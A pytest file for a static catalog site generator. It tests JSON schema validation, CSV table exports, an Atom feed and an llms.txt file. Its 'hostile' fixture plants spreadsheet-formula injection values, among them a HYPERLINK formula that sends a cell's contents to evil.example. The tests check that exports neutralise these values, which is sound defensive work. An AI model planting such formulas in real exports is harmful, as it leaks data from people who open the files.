"""The catalog as data: schema, tables and feed, read by programs that others wrote, and compared with the data beside the pages."""

import copy
import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from datetime import datetime
from xml.etree import ElementTree

import jsonschema
import pytest

from conftest import CAIRN, ROOT

HOME = "https://catalog.example.org/c"
ODD = "=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"click\\\")"
FILES = {
    "catalog.yaml": f"title: 'Test, “catalog”'\nbase_url: {HOME}/\norganization: academy\nlanguage: en-US\n"
    "license: {name: CC BY 4.0, url: 'https://creativecommons.org/licenses/by/4.0/'}\n"
    "groups: [{id: teachers, name: 'Teachers; aides'}]\ndisclaimer: {text: Earning does not guarantee a role.}\n",
    "organizations/academy.md": "---\ntitle: '@Academy'\nsummary: Decides.\nkind: district\nfacts: [{label: Students, value: '34,000', as_of: 2018}]\n"
    "contacts: [{label: Office, email: office@academy.example.org, url: 'https://academy.example.org/'}]\n---\n",
    "micro-credentials/talk.md": f'---\ntitle: "{ODD}"\nsummary: "+1, \\"quoted\\"; naïve †"\ncategory: "-Data"\n'
    "effort_hours: {min: 5, max: 12}\nrequirements: [{title: Show, prompt: Show it.}, {title: '=Tell', prompt: Tell it.}]\n"
    "rubric: {scale: [Not yet, Meets], pass: Meets, criteria: [{id: clear, text: Clear, levels: ['No; not', 'Yes, it is']}]}\n"
    "state_vetted: yes\nupdated: 2020-02-01\n---\nWords on\nseveral lines, with *marks*.\n",
    "competencies/constructor.md": "---\ntitle: Constructor\nstatement: Builds.\ntype: skill\n---\n",
    "roles/proto.md": "---\ntitle: Guide\nsummary: Shows the way.\naliases: [pathfinder]\ngroups: [teachers]\ncompetencies: [constructor]\n"
    "school_year: 2019-20\nqualifications: [{text: '=1+1'}, {text: 'Two; years', level: preferred, kind: years}]\n"
    "requires: {all: [{mc: talk}, {choose: 1, from: [talk, listen]}, {other: An interview, kind: interview}]}\nupdated: 2020-03-01\n---\n",
    "roles/proto@2018-19.md": "---\ntitle: Old guide\nsummary: Shows the way.\nschool_year: 2018-19\nupdated: 2019-01-01\n---\n",
    "micro-credentials/listen.md": "---\ntitle: Listen\nsummary: Listens.\ncategory: Data\nrequirements: [{title: Show, prompt: Show.}]\n---\n",
    "policies/pay.md": "---\ntitle: Pay\nsummary: Pays.\nkind: stipend\namount: 200 USD\ngroups: [teachers]\ncap: {count: 8, per: school-year}\n"
    "windows: [{label: First, from: 07-01, through: 12-31}, {label: Second, from: 01-01, through: 06-30, paid: June}]\n---\n",
    "terms/card.md": "---\ntitle: Card\nsummary: A page for a role.\nsee: [role:proto]\n---\n",
    "impact/reached.yaml": "title: Reached\nkind: count\nmeasure: People reached\npoints: [{year: 2017, value: 85, of: 120}]\n"
    "source: {title: The report}\n",
}


def build(root, content):
    subprocess.run(
        [CAIRN, "build", "--quiet", "--content", content, "--output", root / "Site"], cwd=root, check=True, capture_output=True, text=True)
    return root / "Site"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    for name, text in FILES.items():
        path = root / "Content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return build(root, root / "Content")


@pytest.fixture(scope="module")
def demonstration(tmp_path_factory):
    return build(tmp_path_factory.mktemp("demonstration"), ROOT / "Content")


@pytest.fixture(params=["hostile", "demonstration"])
def site(request):
    return request.getfixturevalue(request.param)


def load(path):
    return json.loads(path.read_text())


def twins(site):
    """The data beside the pages."""
    return [twin for twin in map(load, sorted(site.rglob("index.json"))) if "kind" in twin and "format" in twin]


def closed(schema):
    """The same schema without room for members that it does not describe."""
    schema = copy.deepcopy(schema)

    def close(node):
        if isinstance(node, dict):
            if "properties" in node and isinstance(node["properties"], dict):
                node["additionalProperties"] = False
            for value in node.values():
                close(value)
        elif isinstance(node, list):
            for value in node:
                close(value)

    close(schema)
    return schema


def validator(site, name=None):
    schema = closed(load(site / "data/catalog.schema.json"))
    if name:
        schema = {"$schema": schema["$schema"], "$defs": schema["$defs"], "$ref": f"#/$defs/{name}"}
    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())


def test_the_schema_is_one(site):
    schema = load(site / "data/catalog.schema.json")
    jsonschema.Draft202012Validator.check_schema(schema)
    assert "additionalProperties" not in json.dumps(schema), "New members may come at any time."


def test_every_twin_says_what_the_schema_describes_and_nothing_else(site):
    kinds = {}
    for twin in twins(site):
        name = "moved" if "moved_to" in twin else twin["kind"]
        kinds.setdefault(name, []).append(twin)
    assert len(kinds) > 5
    for name, found in kinds.items():
        judge = validator(site, name)
        for twin in found:
            assert [f"{twin['id']}: {error.json_path} {error.message[:300]}" for error in judge.iter_errors(twin)] == []


def test_a_member_that_is_not_described_is_noticed(hostile):
    twin = load(hostile / "roles/proto/index.json")
    twin["qualifications"][0]["surprise"] = 1
    assert not validator(hostile, "role").is_valid(twin)
    assert validator(hostile, "role").is_valid(load(hostile / "roles/proto/index.json"))


def test_the_catalog_is_valid_and_holds_every_twin(site):
    catalog = load(site / "data/catalog.json")
    schema = closed(load(site / "data/catalog.schema.json"))
    opening = {**schema, "properties": {**schema["properties"], "entities": {"type": "array"}}}
    assert [error.message for error in jsonschema.Draft202012Validator(opening).iter_errors(catalog)] == []
    kinds = {}
    for entity in catalog["entities"]:
        kinds.setdefault(entity["kind"], []).append(entity)
    for kind, entities in kinds.items():
        judge = validator(site, kind)
        assert [error.message for entity in entities for error in judge.iter_errors(entity)] == []
    beside = [twin for twin in twins(site) if "moved_to" not in twin]
    assert sorted(map(json.dumps, beside)) == sorted(json.dumps(e) for e in catalog["entities"] if e["kind"] not in ("stat", "term"))


# Which member stands for an object of a list in the cell of a table: as `/data/` says, the id of another thing, else what says most.
CELLS = ("id", "words", "label", "title", "name", "text")
SAID = {"qualifications": "text", "requirements": "title", "criteria": "text", "facts": "text", "options": "title"}


def shown(value, column):
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "; ".join(shown(entry, column) for entry in value)
    if isinstance(value, dict):
        if "sentence" in value:
            return value["sentence"]
        name = column.split(".")[-1]
        if name == "facts" and "words" in value:
            return value["words"]
        if name in SAID:
            return value.get(SAID[name], "")
        if name in ("windows", "examples", "milestones", "levels", "sources", "additions", "amount", "source", "timeline"):
            return value.get({"levels": "name", "sources": "title", "source": "title", "windows": "label", "milestones": "label"}.get(name, "text"), "")
        return next(str(value[cell]) for cell in CELLS if cell in value)
    return str(value)


def at(twin, column):
    value = twin
    for step in column.split("."):
        if value is None:
            return None
        value = value[{"least": 0, "most": 1}[step]] if isinstance(value, list) else value.get(step)
    return value


def expected(text):
    """With an apostrophe before what a spreadsheet might take for a formula."""
    dangerous = re.match(r"[=+\-@\t\r\n＝＋－＠]", text) and not re.fullmatch(r"-\d+", text)
    return "'" + text if dangerous else text


FOLDERS = {"faq": "faq", "page": "pages", "mc": "micro-credentials", "org": "organizations", "stat": "impact", "policy": "policies",
           "competency": "competencies"}


def table(site, kind):
    return site / "data" / f"{FOLDERS.get(kind, kind + 's')}.csv"


def test_every_cell_of_every_table_is_what_the_data_says(site):
    entities = {}
    for entity in load(site / "data/catalog.json")["entities"]:
        entities.setdefault(entity["kind"], []).append(entity)
    assert {table(site, kind).name for kind in entities} == {path.name for path in (site / "data").glob("*.csv")}
    for kind, things in entities.items():
        raw = table(site, kind).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
        names, *rows = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True)
        assert [row[names.index("id")] for row in rows] == [thing["id"] for thing in things]
        for row, thing in zip(rows, things, strict=True):
            for name, cell in zip(names, row, strict=True):
                assert cell == expected(shown(at(thing, name), name)), f"{kind} {thing['id']}: {name}"


def test_a_spreadsheet_opens_every_table_and_runs_nothing_in_it(site, tmp_path):
    """Gnumeric reads the file as whoever double-clicks it would, and writes what it understood as XLSX."""
    if not shutil.which("ssconvert"):
        pytest.skip("ssconvert (Gnumeric) is not installed: no spreadsheet opens the tables")
    for path in (site / "data").glob("*.csv"):
        book = tmp_path / f"{path.stem}.xlsx"
        subprocess.run(["ssconvert", path, book], check=True, capture_output=True)
        names, *rows = csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""))
        cells = spreadsheet_cells(book)
        for number, row in enumerate([names, *rows], 1):
            for column, text in enumerate(row):
                found = cells.get((number, column), "")
                if re.fullmatch(r"[\d.,:/ -]*|true|false|\$[\d,.]+", text) or re.fullmatch(r"\d{4}-\d\d(-\d\d)?", text):
                    continue  # read as a number, a day or a truth
                # A leading apostrophe says "text" in a spreadsheet and may not be shown.
                assert found in (text, text.removeprefix("'")), f"{path.name} {number}:{column}"


def spreadsheet_cells(book):
    space = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(book) as parts:
        strings = []
        if "xl/sharedStrings.xml" in parts.namelist():
            for item in ElementTree.fromstring(parts.read("xl/sharedStrings.xml")).findall("m:si", space):
                strings.append("".join(text.text or "" for text in item.iter(f"{{{space['m']}}}t")))
        sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
    assert sheet.findall(".//m:f", space) == [], f"{book.name} holds a formula."
    cells = {}
    for cell in sheet.iter(f"{{{space['m']}}}c"):
        letters, number = re.fullmatch(r"([A-Z]+)(\d+)", cell.get("r")).groups()
        column = 0
        for letter in letters:
            column = column * 26 + ord(letter) - 64
        if cell.get("t") == "inlineStr":
            cells[int(number), column - 1] = "".join(text.text or "" for text in cell.iter(f"{{{space['m']}}}t"))
            continue
        value = cell.find("m:v", space)
        text = "" if value is None else value.text or ""
        cells[int(number), column - 1] = strings[int(text)] if cell.get("t") == "s" else text
    return cells


def test_no_person_and_no_badge_is_in_the_data(hostile):
    for path in [*(hostile / "data").glob("*.*"), *hostile.rglob("index.json"), hostile / "changes.atom", hostile / "llms.txt"]:
        text = path.read_text()
        assert "/badges/" not in text, path
        assert "office@academy" not in text, path


def test_the_feed_is_atom(site):
    """What RFC 4287 requires of a feed and of each entry."""
    atom = "{http://www.w3.org/2005/Atom}"
    feed = ElementTree.parse(site / "changes.atom").getroot()
    assert feed.tag == atom + "feed"

    def one(parent, name):
        found = parent.findall(atom + name)
        assert len(found) == 1 and "".join(found[0].itertext()).strip(), name
        return found[0].text

    ids, moments = {one(feed, "id")}, []
    one(feed, "title")
    assert [author.find(atom + "name").text for author in feed.findall(atom + "author")] != []
    assert [link.get("rel") for link in feed.findall(atom + "link")] == ["self", "alternate"]
    entries = feed.findall(atom + "entry")
    assert 0 < len(entries) <= 50
    for entry in entries:
        ids.add(one(entry, "id"))
        one(entry, "title")
        moments.append(datetime.fromisoformat(one(entry, "updated")))
        address = entry.find(f"{atom}link[@rel='alternate']").get("href")
        path = re.sub(r"^https://[^/]+(/c)?/", "", address).split("#")[0]
        assert (site / path / "index.html").is_file(), address
    assert len(ids) == len(entries) + 1, "Every id is another."
    assert moments == sorted(moments, reverse=True)
    assert datetime.fromisoformat(one(feed, "updated")) == moments[0]


def test_every_link_of_the_text_for_language_models_leads_to_a_file(site):
    text = (site / "llms.txt").read_text()
    assert re.match(r"# .+\n\n", text)
    links = re.findall(r"\]\(https://[^/]+(?:/c)?/([^)]*)\)", text)
    assert len(links) > 10
    for path in links:
        assert (site / path).is_file() or (site / path / "index.html").is_file(), path
